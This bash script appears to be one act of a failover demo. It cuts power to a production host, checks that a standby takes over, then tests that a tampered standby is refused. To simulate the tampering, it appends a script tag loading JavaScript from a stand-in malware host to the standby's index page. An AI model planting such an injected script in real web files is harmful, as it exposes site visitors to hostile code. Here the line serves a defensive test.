# shellcheck shell=bash
# failover_act.sh - act 7 of the demo: a power cut of production, and the stand-by takes the address over; then a stand-by that was
# tampered with, and is refused. Sourced by moves.sh.
# shellcheck disable=SC2154 # word_...: in words.LANGUAGE.sh; the rest in demo.sh and moves.sh
# shellcheck disable=SC2034 # $pages: for learn_known

act7_keeper()
{
        lab_in "$1" "$UNDERSTUDY" keeper --config "$tmp/keeper-$1.conf" --server "$1" --state "$tmp/$1/state" >>"keeper-$1.log" 2>&1 </dev/null &
}
act7_served_by() { [[ $(curl -sS -m 2 -o /dev/null -w '%header{x-served-by}' "http://$service/" 2>/dev/null) == "$1" ]]; }

# Two keepers, whose keys may ask for a lease only, and the controller.
act7_roles()
{
        local host
        moves_configure address || return
        for host in production standby; do
                ssh-keygen -q -t ed25519 -N '' -C "keeper of $host" -f "ssh/keeper-$host" </dev/null &&
                        stage_ssh "ssh/config-$host" "$tmp/ssh/keeper-$host" &&
                        stage_config "keeper-$host.conf" "ssh_config = \"$tmp/ssh/config-$host\"" "$moves_check" "$moves_limits" &&
                        moves_authorize database "keeper-$host" --for "$host" >>ssh/database/authorized_keys || return
        done
        act7_keeper production
        act7_keeper standby
        wait_for 30 act7_served_by production || return
        language=en moves_understudy controller >controller.log 2>&1 </dev/null &
        wait_for 30 grep -q '^ready' controller.log && sleep 2.5 # until it has asked the stand-by, and knows it well
}

act7_cut_power()
{
        ip link set port-production down
        ip netns pids production | xargs -r kill -KILL 2>/dev/null
        ip -n production address del "$service/32" dev eth0 2>/dev/null
        return 0
}
act7_boot()
{
        ip link set port-production up && stage_sshd production "$(cat ssh/production/authorized_keys)" && stage_web production || return
        act7_keeper production
        wait_for 20 lab_in production bash -c ': </dev/tcp/127.0.0.1/22' 2>/dev/null && sleep 1
}

act7_power()
{
        local requests failed standby gap alone=true
        moves_visit "$service" 5 || fail 3 "$(tail -n 1 visits)"
        sleep 0.5
        act7_cut_power
        step "$word_act7_cut"
        wait_for 40 act7_served_by standby || moves_good=false
        sleep 0.5
        moves_leave
        read -r requests failed standby gap < <(moves_visits)
        step "$word_act7_gap" "$gap" "$requests" "$failed"
        [[ $standby -gt 0 ]] || moves_good=false
        act7_boot || fail 3 "$(tail -n 1 keeper-production.log)"
        step "$word_act7_boot"
        moves_alone standby production "$word_standby" || alone=false
        act7_served_by standby || moves_good=false
        moves_command return || moves_good=false
        wait_for 10 act7_served_by production || moves_good=false
        jq -n '$ARGS.positional as $a | {requests: $a[0], failed: $a[1], from_standby: $a[2], gap_ms: $a[3], only_new_writes: $a[4]}' \
                --jsonargs "$requests" "$failed" "$standby" "$gap" "$alone" >power.json
}

act7_tampered()
{
        local visitor status got stayed=true
        pages='/ /prices.html /help/ /news/ /css/site.css'
        learn_known
        tr ' ' '\n' <<<"$pages" >pages
        : >"$log"
        "$UNDERSTUDY_VISITOR" --pause 8 "http://$service" pages "$log" &
        visitor=$!
        echo '<script src="http://malware.invalid/x.js"></script>' >>standby/www/site/index.html
        step "$word_act7_tampered"
        moves_command switch standby
        status=$?
        quote "$(sed -n 's/^understudy: //p' move.log | head -n 1)"
        sleep 0.5
        kill "$visitor" && wait "$visitor"
        read -ra got < <(count 0)
        [[ $status -ne 0 && ${got[0]} -gt 0 && ${got[1]} -eq 0 && ${got[2]} -eq 0 && ${got[3]} -eq 0 ]] && act7_served_by production ||
                { stayed=false moves_good=false; }
        if [[ $stayed == true ]]; then step "$green$word_refused$plain"; else step "$red$word_not_refused$plain"; fi
        jq -n '$ARGS.positional as $a | {pages: $a[0], from_standby: $a[1], tampered: $a[2], unanswered: $a[3], exit_status: $a[4], refused: $a[5]}' \
                --jsonargs "${got[@]}" "$status" "$stayed" >tampered.json
}

act7()
{
        heading "$word_act7"
        moves_stage address || fail 3 "$(tail -n 3 stage.out)"
        act7_roles || fail 3 "$(tail -n 3 stage.out controller.log keeper-production.log 2>/dev/null)"
        step "$word_act7_roles"
        act7_power
        act7_tampered
        jq -n --slurpfile power power.json --slurpfile tampered tampered.json '{power_cut: $power[0], tampered: $tampered[0]}' >failover.json
}
